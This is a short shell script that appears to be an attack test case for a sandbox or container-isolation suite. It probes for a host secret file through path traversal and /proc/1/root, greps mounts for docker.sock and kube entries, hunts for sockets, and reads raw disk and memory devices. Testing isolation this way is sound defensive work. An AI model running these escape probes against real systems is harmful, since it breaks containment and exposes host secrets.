#!/bin/sh
# attack: read a secret file of the host, by its path and through whatever is mounted
# threat: T02
# expect: COMPLETED
. /input/targets.sh
echo TRIED
for place in "$HOST_FILE" "/proc/1/root$HOST_FILE" "/proc/1/cwd/../../../../..$HOST_FILE" "/input/../$HOST_FILE"; do
    cat "$place" 2>/dev/null && echo "GAINED $place"
done
ls /input | grep -v -x -e targets.sh && echo "GAINED a file beside the input"
cut -d' ' -f5 /proc/self/mountinfo 2>/dev/null | grep -i -e secret -e docker.sock -e containerd -e kube && echo "GAINED a mount"
find / -xdev -name '*.sock' 2>/dev/null | grep . && echo "GAINED a socket"
for disk in /dev/vda /dev/sda /dev/nvme0n1 /dev/mem /dev/kmsg; do
    dd if=$disk bs=16 count=1 2>/dev/null | grep -q . && echo "GAINED $disk"
done
exit 0
